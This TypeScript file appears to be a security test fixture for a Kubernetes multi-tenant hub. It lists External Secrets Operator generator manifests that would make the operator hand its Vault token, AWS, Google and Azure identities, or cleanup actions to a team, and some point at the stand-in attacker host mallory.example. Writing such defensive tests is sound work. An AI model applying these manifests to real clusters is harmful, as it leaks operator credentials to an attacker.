import { PlainObject } from '../framework/objects';
import { TEAM } from './attackedHub';

const url = 'https://mallory.example';

/** A generator in the team's namespace. */
export const generator = (kind: string, spec: object): PlainObject => ({
  apiVersion: 'generators.external-secrets.io/v1alpha1',
  kind,
  metadata: { name: 'mine', namespace: TEAM },
  spec,
});

/** A Vault whose secrets engine makes credentials. */
export const vaultGenerator = (auth: object | undefined) =>
  generator('VaultDynamicSecret', {
    path: 'any',
    provider: { server: url, auth },
  });

/** Generators, each with what it would make the operator use for a team. */
export const DANGEROUS_GENERATORS: readonly [string, PlainObject][] = [
  [
    'a Vault that gets the operator’s own token',
    vaultGenerator({ kubernetes: { mountPath: 'kubernetes', role: 'any' } }),
  ],
  ['a Vault and no credential', vaultGenerator(undefined)],
  [
    'any address that the operator reaches',
    generator('Webhook', { url, result: { jsonPath: '$' } }),
  ],
  [
    'the operator’s AWS identity',
    generator('ECRAuthorizationToken', { region: 'eu-west-1' }),
  ],
  [
    'the operator’s Google identity',
    generator('GCRAccessToken', { projectID: 'any', auth: {} }),
  ],
  [
    'the operator’s Azure identity',
    generator('ACRAccessToken', {
      registry: 'mallory.example',
      auth: { managedIdentity: { identityId: 'any' } },
    }),
  ],
  [
    'commands for the operator’s cleanup',
    generator('GeneratorState', {
      garbageCollectionDeadline: '2020-01-01T00:00:00Z',
      resource: { apiVersion: 'x', kind: 'Grafana' },
      state: {},
    }),
  ],
];
